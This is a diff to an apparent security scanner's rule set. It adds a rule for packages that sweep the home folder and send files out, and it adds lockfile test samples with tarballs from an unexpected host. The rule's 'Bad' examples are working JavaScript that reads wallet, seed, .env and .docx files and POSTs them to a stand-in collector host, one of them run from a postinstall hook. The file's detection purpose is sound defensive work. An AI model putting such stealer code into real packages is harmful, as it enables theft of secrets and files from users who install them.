@@ -16,6 +16,7 @@ pub mod collection {
     pub mod dotenv_file_sent;
     pub mod env_sent_to_network;
     pub mod git_token_taken;
+    pub mod home_folder_swept;
     pub mod keychain_read;
     pub mod keystrokes_sent;
     pub mod metadata_service_queried_unasked;
@@ -204,6 +205,7 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::dotenv_file_sent::DotenvFileSent,
     &collection::env_sent_to_network::EnvSentToNetwork,
     &collection::git_token_taken::GitTokenTaken,
+    &collection::home_folder_swept::HomeFolderSwept,
     &collection::keychain_read::KeychainRead,
     &collection::keystrokes_sent::KeystrokesSent,
     &collection::metadata_service_queried_unasked::MetadataServiceQueriedUnasked,
@@ -812,6 +814,66 @@ fetch("https://api.github.com/user", { headers: { authorization: `token ${token}
 ## References
 
 - Nx: S1ngularity postmortem (August 2025)
+"#,
+    ),
+    (
+        "home-folder-swept",
+        r#"# The home folder is searched and files are sent
+
+At install or import, the whole home folder, a drive or the root is listed, and contents of files leave
+the machine.
+
+## Why it matters
+
+Thieves that do not know where a secret lies walk everything and send what has the right name.
+
+## Known benign uses
+
+Linters and bundlers walk a project and send nothing. Nothing walks a home folder before anyone calls
+it.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os"), path = require("path");
+const base = os.homedir();
+for (const name of fs.readdirSync(base)) {
+  if (/seed|wallet|[.]env/.test(name)) send(fs.readFileSync(path.join(base, name), "utf8"));
+}
+function send(body) {
+  fetch("https://collector.invalid/", { method: "POST", body }); //~ here
+}
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const { execSync } = require("child_process");
+const fs = require("fs");
+for (const name of execSync("find ~ -name '*.docx'").toString().split("\n")) {
+  fetch("https://collector.invalid/", { method: "POST", body: fs.readFileSync(name) }); //~ here
+}
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os");
+exports.rules = fs.readdirSync(__dirname).map((name) => fs.readFileSync(name, "utf8"));
+exports.upload = (address, name) => fetch(address, { method: "POST", body: fs.readFileSync(name) });
+exports.home = () => fs.readdirSync(os.homedir());
+```
+
+## References
+
+- Socket: OtterCookie (November 2025)
 "#,
     ),
     (
@@ -4416,6 +4478,41 @@ whose packages come from one host; archives that the project itself asks for by 
     "node_modules/semver": {"version": "7.7.0", "resolved": "https://registry.example/semver/-/semver-7.7.0.tgz", "integrity": "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="}
   }
 }
+```
+
+```package project
+== package.json
+{"name": "app", "version": "1.0.0", "private": true, "dependencies": {"ms": "^2.1.3", "debug": "^4.4.0"}}
+== pnpm-lock.yaml
+lockfileVersion: '9.0'
+importers:
+  .:
+    dependencies:
+      debug: {specifier: ^4.4.0, version: 4.4.0}
+      ms: {specifier: ^2.1.3, version: 2.1.3}
+packages:
+  debug@4.4.0:
+    resolution: {integrity: sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=}
+  ms@2.1.3: #~ here
+    resolution: {integrity: sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=, tarball: https://packages.invalid/ms.tgz}
+snapshots:
+  debug@4.4.0: {}
+  ms@2.1.3: {}
+```
+
+```package project
+== package.json
+{"name": "app", "version": "1.0.0", "private": true, "dependencies": {"lodash": "^4.17.21"}}
+== yarn.lock //~ 4
+__metadata:
+  version: 8
+
+"lodash@npm:^4.17.21":
+  version: 4.17.21
+  resolution: "lodash@https://packages.invalid/lodash.tgz"
+  checksum: 10c0/0a1b
+  languageName: node
+  linkType: hard
 ```
 
 ## Good
